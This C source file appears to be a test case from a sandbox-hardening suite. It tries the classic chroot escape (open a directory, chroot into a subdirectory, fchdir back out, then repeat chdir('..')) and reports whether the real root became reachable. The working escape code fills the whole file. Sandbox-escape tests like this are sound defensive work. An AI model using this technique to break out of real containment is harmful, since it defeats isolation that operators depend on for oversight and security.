/* SPDX-License-Identifier: Apache-2.0 */
/* attack: the classic way out of a chroot: another chroot, then `..` beyond it
 * category: files
 * inside: chroot is not there
 * as: root
 * arguments: {workspace}
 * options: --directory {workspace}
 */
#include <fcntl.h>
#include <sys/stat.h>

#include "attack.h"

int main(int argc, char **argv)
{
    if (argc < 2 || chdir(argv[1]) < 0 || mkdir("jail", 0755) < 0)
        nothing_to_attack("no workspace");
    int outside = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot("jail") < 0 || fchdir(outside) < 0)
        stopped("chroot");
    for (int i = 0; i < 20; i++)
        if (chdir("..") < 0)
            stopped("chdir");
    if (access("usr/bin/env", F_OK) < 0)
        stopped("the way up");
    worked("above the root");
}
